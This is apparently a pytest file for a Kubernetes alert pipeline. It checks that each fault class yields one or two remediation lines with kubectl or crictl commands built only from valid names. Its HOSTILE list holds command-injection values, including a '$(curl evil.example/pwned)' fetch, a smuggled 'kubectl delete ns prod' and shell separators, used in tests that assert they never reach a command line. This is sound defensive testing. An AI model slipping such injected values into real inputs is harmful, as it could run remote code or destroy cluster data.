"""What to do next: for each fault class, the subject and the facts found give the one or two
actions an engineer takes, with a command built only from names that are valid ones."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from enrichers.kubernetes.facts import pod_facts
from enrichers.kubernetes.report import Findings, facts, read_facts
from enrichers.kubernetes.subject import resolve
from receiver.pipeline.advice import advice
from tests.conftest import fixture_json

ALERT_TIME = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
LOGS = "Read why the last instance exited: kubectl -n {ns} logs {pod} -c {c} --previous"


def _ago(minutes: int) -> str:
    return (ALERT_TIME - timedelta(minutes=minutes)).isoformat().replace("+00:00", "Z")


def container(name: str = "app", **state: Any) -> dict[str, Any]:
    """A container as the Kubernetes enricher writes it in its facts."""
    found: dict[str, Any] = {"name": name, "image": "ghcr.io/shop/app:1.0", "ready": False, "restarts": 0}
    found |= {"state": "waiting", "waiting_reason": None, "waiting_message": None, "terminated": None}
    found |= {"last_termination": None, "requests": {}, "limits": {}, "init": False}
    return found | state


def pod(name: str, namespace: str = "shop", *containers: dict[str, Any], **more: Any) -> dict[str, Any]:
    base = {"name": name, "namespace": namespace, "exists": True, "phase": "Running", "ready": False}
    return base | {"node": "worker-1", "unschedulable": None, "containers": list(containers)} | more


def workload(kind: str, name: str, namespace: str = "shop", **more: Any) -> dict[str, Any]:
    base = {"kind": kind, "name": name, "namespace": namespace, "exists": True, "desired": 3, "ready": 1}
    return base | {"problems": [], "owner": None} | more


def rollout(revision: int, minutes_before: int, **more: Any) -> dict[str, Any]:
    base = {"deployment": "checkout", "revision": revision, "replicaset": f"checkout-{revision}"}
    return base | {"images": ["ghcr.io/shop/checkout:2.0"], "started_at": _ago(minutes_before)} | more


def crashing(name: str = "app", ended: str = "Error", **more: Any) -> dict[str, Any]:
    last = {"reason": ended, "exit_code": 137 if ended == "OOMKilled" else 1, "finished_at": _ago(1), "message": None}
    return container(name, waiting_reason="CrashLoopBackOff", restarts=7, last_termination=last, **more)


def pulling(message: str, reason: str = "ErrImagePull") -> dict[str, Any]:
    return container("web", image="ghcr.io/shop/frontend:2.14.1", waiting_reason=reason, waiting_message=message)


def event(reason: str, message: str) -> dict[str, Any]:
    return {"reason": reason, "count": 3, "last_seen": _ago(1), "message": message, "objects": ["Pod/x"]}


POD_LABELS = {"namespace": "shop", "pod": "checkout-7d9f-x2", "container": "app"}
NOT_FOUND = 'failed to pull and unpack image "ghcr.io/shop/frontend:2.14.1": ghcr.io/shop/frontend:2.14.1: not found'
UNSCHEDULABLE = "0/3 nodes are available: 3 Insufficient cpu."


@dataclass(frozen=True)
class Case:
    labels: dict[str, str]
    facts: dict[str, Any] = field(default_factory=dict)
    expected: tuple[str, ...] = ()


CASES = {
    "crash loop after a rollout, last good revision known": Case(
        POD_LABELS,
        {
            "pod": pod("checkout-7d9f-x2", "shop", crashing()),
            "workload": workload("Deployment", "checkout"),
            "rollout": rollout(4, 12, previous_revision=3),
        },
        (
            "Revision 4 rolled out just before: roll back to revision 3, the last good one:"
            " kubectl -n shop rollout undo deployment/checkout --to-revision=3",
            LOGS.format(ns="shop", pod="checkout-7d9f-x2", c="app"),
        ),
    ),
    "crash loop after a rollout, earlier revisions not read": Case(
        POD_LABELS,
        {
            "pod": pod("checkout-7d9f-x2", "shop", crashing()),
            "workload": workload("Deployment", "checkout"),
            "rollout": rollout(4, 12),
        },
        (
            "Revision 4 rolled out just before: roll back to the one before it:"
            " kubectl -n shop rollout undo deployment/checkout",
            LOGS.format(ns="shop", pod="checkout-7d9f-x2", c="app"),
        ),
    ),
    "crash loop long after the last rollout": Case(
        POD_LABELS,
        {
            "pod": pod("checkout-7d9f-x2", "shop", crashing()),
            "workload": workload("Deployment", "checkout"),
            "rollout": rollout(4, 3 * 24 * 60),
        },
        (
            LOGS.format(ns="shop", pod="checkout-7d9f-x2", c="app"),
            "See its state and events: kubectl -n shop describe pod checkout-7d9f-x2",
        ),
    ),
    "crash loop known from the labels alone": Case(
        {"namespace": "shop", "pod": "checkout-7d9f-x2", "container": "app", "reason": "CrashLoopBackOff"},
        {},
        (
            LOGS.format(ns="shop", pod="checkout-7d9f-x2", c="app"),
            "See its state and events: kubectl -n shop describe pod checkout-7d9f-x2",
        ),
    ),
    "OOMKilled: the limit, the peak, a bigger limit": Case(
        POD_LABELS,
        {
            "pod": pod("checkout-7d9f-x2", "shop", crashing(ended="OOMKilled", limits={"memory": "256Mi"})),
            "workload": workload("Deployment", "checkout"),
        },
        (
            "Container app was OOMKilled at its memory limit 256Mi: raise the limit (e.g. to 384Mi) or fix the leak:"
            " kubectl -n shop set resources deployment/checkout -c app --limits=memory=384Mi",
            LOGS.format(ns="shop", pod="checkout-7d9f-x2", c="app"),
        ),
    ),
    "OOMKilled with the peak known": Case(
        POD_LABELS,
        {
            "pod": pod(
                "checkout-7d9f-x2",
                "shop",
                crashing(ended="OOMKilled", limits={"memory": "1Gi"}, memory_peak="1200Mi"),
            ),
            "workload": workload("StatefulSet", "checkout"),
        },
        (
            "Container app was OOMKilled at its memory limit 1Gi (peak 1200Mi): raise the limit (e.g. to 2Gi)"
            " or fix the leak: kubectl -n shop set resources statefulset/checkout -c app --limits=memory=2Gi",
            LOGS.format(ns="shop", pod="checkout-7d9f-x2", c="app"),
        ),
    ),
    "OOMKilled without a limit": Case(
        POD_LABELS,
        {"pod": pod("checkout-7d9f-x2", "shop", crashing(ended="OOMKilled"))},
        (
            "Container app was OOMKilled without a memory limit: the node ran out of memory;"
            " give it a memory request and limit",
            LOGS.format(ns="shop", pod="checkout-7d9f-x2", c="app"),
        ),
    ),
    "image tag the registry did not find": Case(
        {"namespace": "shop", "pod": "frontend-5c8-abc", "container": "web"},
        {
            "pod": pod("frontend-5c8-abc", "shop", pulling("Back-off pulling image", "ImagePullBackOff")),
            "workload": workload("Deployment", "frontend"),
            "events": [
                event("Failed", "Error: ImagePullBackOff"),
                event("Failed", f"Failed to pull image: {NOT_FOUND}"),
            ],
        },
        (
            "The registry has no image ghcr.io/shop/frontend:2.14.1: fix the tag in Deployment frontend",
            "See its state and events: kubectl -n shop describe pod frontend-5c8-abc",
        ),
    ),
    "image pull refused: the pull secret": Case(
        {"namespace": "shop", "pod": "frontend-5c8-abc"},
        {"pod": pod("frontend-5c8-abc", "shop", pulling("pull access denied, authorization failed"))},
        (
            "The registry refused to serve ghcr.io/shop/frontend:2.14.1: check the pod's imagePullSecrets:"
            " kubectl -n shop get pod frontend-5c8-abc -o jsonpath='{.spec.imagePullSecrets}'",
            "See its state and events: kubectl -n shop describe pod frontend-5c8-abc",
        ),
    ),
    "failed Job of a CronJob": Case(
        {"namespace": "batch", "job_name": "report-29034"},
        {
            "workload": workload(
                "Job",
                "report-29034",
                "batch",
                problems=["Failed=True: BackoffLimitExceeded"],
                owner={"kind": "CronJob", "name": "report", "exists": True},
            )
        },
        (
            "Job report-29034 failed (BackoffLimitExceeded): read its pods' logs:"
            " kubectl -n batch logs job/report-29034",
            "After the fix, run it again from CronJob report:"
            " kubectl -n batch create job report-retry --from=cronjob/report",
        ),
    ),
    "Job past its deadline": Case(
        {"namespace": "batch", "job_name": "migrate"},
        {"workload": workload("Job", "migrate", "batch", problems=["Failed=True: DeadlineExceeded"])},
        (
            "Job migrate ran past its activeDeadlineSeconds: see whether it hangs or needs longer:"
            " kubectl -n batch logs job/migrate",
            "See its state and events: kubectl -n batch describe job migrate",
        ),
    ),
    "HPA at its maximum": Case(
        {"namespace": "shop", "horizontalpodautoscaler": "frontend", "job": "kube-state-metrics"},
        {"hpa": {"current_replicas": 10, "desired_replicas": 10, "min_replicas": 2, "max_replicas": 10}},
        (
            "HPA frontend is at its maximum of 10 replicas: raise maxReplicas if the load is real:"
            ' kubectl -n shop patch hpa frontend -p \'{"spec":{"maxReplicas":15}}\'',
            "See the metric driving it, current against target: kubectl -n shop describe hpa frontend",
        ),
    ),
    "HPA, nothing read about it": Case(
        {"namespace": "shop", "horizontalpodautoscaler": "frontend"},
        {},
        ("See the metric driving it, current against target: kubectl -n shop describe hpa frontend",),
    ),
    "replicas mismatch: no room on any node": Case(
        {"namespace": "shop", "deployment": "search"},
        {
            "workload": workload("Deployment", "search"),
            "pod": pod("search-6f-q", "shop", container(), phase="Pending", unschedulable=UNSCHEDULABLE),
        },
        (
            f"No node has room for its pods ({UNSCHEDULABLE}): add nodes or lower the pods' requests",
            'See what each node has allocated: kubectl describe nodes | grep -A 8 "Allocated resources"',
        ),
    ),
    "StatefulSet with an unbound volume": Case(
        {"namespace": "data", "statefulset": "postgres"},
        {
            "workload": workload("StatefulSet", "postgres", "data"),
            "events": [
                event("FailedScheduling", "0/3 nodes are available: pod has unbound immediate PersistentVolumeClaims.")
            ],
        },
        (
            "A volume of its pods is not bound: check the claims, their StorageClass and its provisioner:"
            " kubectl -n data get pvc",
            "See which StorageClasses exist and which is the default: kubectl get storageclass",
        ),
    ),
    "StatefulSet whose claims ask for a StorageClass that does not exist": Case(
        {"namespace": "data", "statefulset": "postgres"},
        {
            "workload": workload("StatefulSet", "postgres", "data", unbound_claims=["data-postgres-1"]),
            "events": [
                event("FailedScheduling", "0/3 nodes are available: pod has unbound immediate PersistentVolumeClaims."),
                event("ProvisioningFailed", 'storageclass.storage.k8s.io "fast-ssd" not found'),
            ],
        },
        (
            "Its claims ask for StorageClass fast-ssd, which does not exist: create it, or give the claims a class"
            " that exists: kubectl get storageclass",
            "A volume of its pods is not bound: check the claims, their StorageClass and its provisioner:"
            " kubectl -n data get pvc",
        ),
    ),
    "DaemonSet whose pods a ResourceQuota refuses": Case(
        {"namespace": "logging", "daemonset": "fluent-bit"},
        {
            "workload": workload("DaemonSet", "fluent-bit", "logging"),
            "events": [
                event(
                    "FailedCreate",
                    'Error creating: pods "fluent-bit-" is forbidden: exceeded quota: logging-quota,'
                    " requested: limits.memory=512Mi, used: limits.memory=1Gi, limited: limits.memory=1Gi",
                )
            ],
        },
        (
            "ResourceQuota logging-quota refuses its pods: raise the quota or lower the pods' requests and limits:"
            " kubectl -n logging describe resourcequota logging-quota",
            "See its state and events: kubectl -n logging describe daemonset fluent-bit",
        ),
    ),
    "DaemonSet not scheduled everywhere": Case(
        {"namespace": "monitoring", "daemonset": "node-agent"},
        {"workload": workload("DaemonSet", "node-agent", "monitoring")},
        (
            "Nodes may carry taints its pods do not tolerate: compare the nodes' taints with its tolerations:"
            " kubectl get nodes -o custom-columns=NAME:.metadata.name,TAINTS:.spec.taints",
            "See its state and events: kubectl -n monitoring describe daemonset node-agent",
        ),
    ),
    "NotReady node": Case(
        {"node": "worker-3", "condition": "Ready", "status": "false"},
        {"node": {"name": "worker-3", "exists": True, "ready": False, "problems": ["NotReady: NodeStatusUnknown"]}},
        (
            "Keep new pods off node worker-3: kubectl cordon worker-3",
            "Move its pods elsewhere: kubectl drain worker-3 --ignore-daemonsets --delete-emptydir-data",
        ),
    ),
    "node under disk pressure": Case(
        {"node": "worker-2"},
        {"node": {"name": "worker-2", "exists": True, "ready": True, "problems": ["DiskPressure"]}},
        (
            "On node worker-2, remove unused container images: crictl rmi --prune",
            "Keep new pods off node worker-2: kubectl cordon worker-2",
        ),
    ),
    "node filesystem filling": Case(
        {
            "instance": "worker-1",
            "job": "node-exporter",
            "namespace": "monitoring",
            "pod": "node-exporter-x7k2p",
            "mountpoint": "/var/lib/containerd",
            "device": "/dev/sda1",
            "fstype": "ext4",
        },
        {},
        (
            "On node worker-1, see what fills /var/lib/containerd:"
            " kubectl debug node/worker-1 -it --image=busybox -- chroot /host du -xh -d 1 /var/lib/containerd",
            "On node worker-1, remove unused container images: crictl rmi --prune",
        ),
    ),
    "PVC filling up, class allows expansion": Case(
        {"namespace": "data", "persistentvolumeclaim": "pg-data", "node": "worker-1", "job": "kubelet"},
        {"pvc": {"capacity": "10Gi", "storage_class": "standard", "allow_volume_expansion": True}},
        (
            "Expand the claim (its StorageClass standard allows it): kubectl -n data patch pvc pg-data"
            ' -p \'{"spec":{"resources":{"requests":{"storage":"15Gi"}}}}\'',
            "See its state and events: kubectl -n data describe pvc pg-data",
        ),
    ),
    "PVC filling up, class cannot expand": Case(
        {"namespace": "data", "persistentvolumeclaim": "pg-data"},
        {"pvc": {"capacity": "10Gi", "storage_class": "local-path", "allow_volume_expansion": False}},
        (
            "Its StorageClass local-path cannot expand volumes: free space on it, or move the data to a bigger claim",
            "See its state and events: kubectl -n data describe pvc pg-data",
        ),
    ),
    "PVC filling up, nothing read about it": Case(
        {"namespace": "data", "persistentvolumeclaim": "pg-data"},
        {},
        (
            "Expand the claim if its StorageClass allows it, else free space or move the data:"
            " kubectl -n data get pvc pg-data -o jsonpath='{.spec.storageClassName}'",
            "See its state and events: kubectl -n data describe pvc pg-data",
        ),
    ),
    "TargetDown: endpoints, then the pods behind": Case(
        {"namespace": "shop", "job": "checkout", "service": "checkout"},
        {"service": {"name": "checkout", "exists": True, "selector": "app=checkout", "not_ready_pods": []}},
        (
            "See which pods back service checkout: kubectl -n shop get endpoints checkout",
            "Check the pods behind it: kubectl -n shop get pods -l app=checkout",
        ),
    ),
    "TargetDown with a pod not ready": Case(
        {"namespace": "shop", "job": "checkout", "service": "checkout"},
        {"service": {"name": "checkout", "selector": "app=checkout", "not_ready_pods": ["checkout-1"]}},
        (
            "See which pods back service checkout: kubectl -n shop get endpoints checkout",
            "Look at a pod behind it that is not ready: kubectl -n shop describe pod checkout-1",
        ),
    ),
    "the cluster as a whole: nothing to say": Case({"alertname": "Watchdog", "severity": "none"}, {}, ()),
    "an object that is gone: nothing to describe": Case(
        {"namespace": "shop", "pod": "old-1"}, {"pod": {"name": "old-1", "namespace": "shop", "exists": False}}, ()
    ),
}


def _advice(labels: dict[str, str], found: dict[str, Any]) -> tuple[str, ...]:
    subject = resolve(labels).subject
    return advice(subject, read_facts(found), labels, {}, ALERT_TIME)


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_each_fault_class_gets_what_an_engineer_would_do(case: Case) -> None:
    assert _advice(case.labels, case.facts) == case.expected


def test_advice_reads_the_facts_the_enricher_writes() -> None:
    raw = next(p for p in fixture_json("kubernetes/k8s_podlist_oomkilled_minikube.json")["items"])
    shaped = pod_facts(raw)
    labels = {"namespace": shaped.namespace, "pod": shaped.name}
    subject = resolve(labels).subject
    written = facts(Findings(subject=subject, alert_time=ALERT_TIME, now=ALERT_TIME, pod=shaped))
    lines = advice(subject, read_facts(written), labels, {}, ALERT_TIME)
    assert lines[0].startswith("Container memory-eater was OOMKilled at its memory limit 100Mi")
    assert "(e.g. to 150Mi)" in lines[0]


def test_at_most_two_lines() -> None:
    for case in CASES.values():
        assert len(_advice(case.labels, case.facts)) <= 2


HOSTILE = [
    "api; touch /tmp/pwned",
    "$(curl evil.example/pwned)",
    "`pwned`",
    "pwned\nkubectl delete ns prod",
    "--kubeconfig=/pwned",
    "pwned' -p '{}",
    "a" * 300 + "pwned",
]
COMMANDS = ("kubectl ", "crictl ", "du -xh ")


def _hostile_cases(name: str) -> list[tuple[dict[str, str], dict[str, Any]]]:
    """Every fault class above with one untrusted value made hostile."""
    deployment = workload("Deployment", "checkout")
    return [
        ({"namespace": "shop", "pod": name, "reason": "CrashLoopBackOff"}, {}),
        ({"namespace": name, "pod": "api-1", "reason": "CrashLoopBackOff"}, {}),
        ({"namespace": "shop", "pod": "api-1", "container": name, "reason": "CrashLoopBackOff"}, {}),
        (
            POD_LABELS,
            {"pod": pod("a", "shop", crashing()), "workload": workload("Deployment", name), "rollout": rollout(4, 5)},
        ),
        (
            POD_LABELS,
            {
                "pod": pod("a", "shop", crashing()),
                "workload": deployment,
                "rollout": rollout(4, 5, previous_revision=name),
            },
        ),
        (
            POD_LABELS,
            {"pod": pod("a", "shop", crashing(ended="OOMKilled", limits={"memory": name})), "workload": deployment},
        ),
        (
            POD_LABELS,
            {"pod": pod("a", "shop", crashing(ended="OOMKilled", limits={"memory": "1Gi"}, memory_peak=name))},
        ),
        ({"namespace": "batch", "job_name": name}, {}),
        (
            {"namespace": "batch", "job_name": "j"},
            {"workload": workload("Job", "j", owner={"kind": "CronJob", "name": name})},
        ),
        ({"namespace": "shop", "horizontalpodautoscaler": name}, {"hpa": {"current_replicas": 3, "max_replicas": 3}}),
        (
            {"namespace": "shop", "persistentvolumeclaim": name},
            {"pvc": {"capacity": "1Gi", "allow_volume_expansion": True}},
        ),
        (
            {"namespace": "shop", "persistentvolumeclaim": "c"},
            {"pvc": {"capacity": name, "allow_volume_expansion": True}},
        ),
        ({"namespace": "shop", "persistentvolumeclaim": "c"}, {"pvc": {"storage_class": name}}),
        ({"node": name}, {"node": {"name": name, "problems": ["NotReady"]}}),
        ({"job": "node-exporter", "instance": "worker-1", "mountpoint": f"/var/{name}"}, {}),
        ({"job": "node-exporter", "instance": "worker-1", "mountpoint": "/var/../etc"}, {}),
        ({"namespace": "shop", "service": name, "job": name}, {}),
        (
            {"namespace": "logging", "daemonset": "d"},
            {"events": [event("FailedCreate", f"forbidden: exceeded quota: {name}, requested: cpu=1")]},
        ),
        (
            {"namespace": "data", "statefulset": "s"},
            {"events": [event("ProvisioningFailed", f'storageclass.storage.k8s.io "{name}" not found')]},
        ),
        ({"namespace": "shop", "service": "s"}, {"service": {"selector": f"app={name}", "not_ready_pods": [name]}}),
    ]


def _command(line: str) -> str:
    """The command a line ends with ("words: command"), or "" for words alone."""
    starts = [line.find(f": {c}") for c in COMMANDS if f": {c}" in line]
    return line[min(starts) :] if starts else ""


@pytest.mark.parametrize("name", HOSTILE)
def test_an_untrusted_name_never_reaches_a_command_line(name: str) -> None:
    for labels, found in _hostile_cases(name):
        for line in _advice(labels, found):
            assert "\n" not in line
            assert "pwned" not in _command(line), (labels, found, line)
            assert ".." not in _command(line), (labels, found, line)


def test_a_name_kubernetes_would_not_accept_gets_no_command() -> None:
    assert _advice({"node": "Worker_1"}, {"node": {"problems": ["NotReady"]}}) == (
        "Keep new pods off node Worker_1",
        "Move its pods elsewhere",
    )


def test_a_hostile_name_still_gets_the_words() -> None:
    lines = _advice({"namespace": "batch", "job_name": "Nightly Report"}, {})
    assert lines == ("Read its pods' logs", "See its state and events")
